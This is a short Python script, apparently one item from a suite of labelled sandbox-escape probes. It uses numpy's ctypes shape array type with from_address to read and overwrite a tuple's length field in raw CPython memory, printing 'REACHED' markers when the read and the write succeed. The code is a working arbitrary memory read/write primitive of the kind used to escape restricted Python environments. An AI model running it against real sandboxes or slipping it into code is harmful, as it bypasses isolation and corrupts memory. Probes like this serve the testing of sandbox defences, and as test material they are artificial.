# attack: arrays hand out a ctypes array of their shape; its type reads and writes any address
# family: numpy
import numpy
kind = type(numpy.zeros(1).ctypes.shape)
thing = (1, 2, 3)
words = kind.from_address(id(thing) + 16)
print("REACHED the size of a tuple, from memory:", words[0])
words[0] = 2
if len(thing) == 2:
    print("REACHED wrote into memory", thing)
words[0] = 3
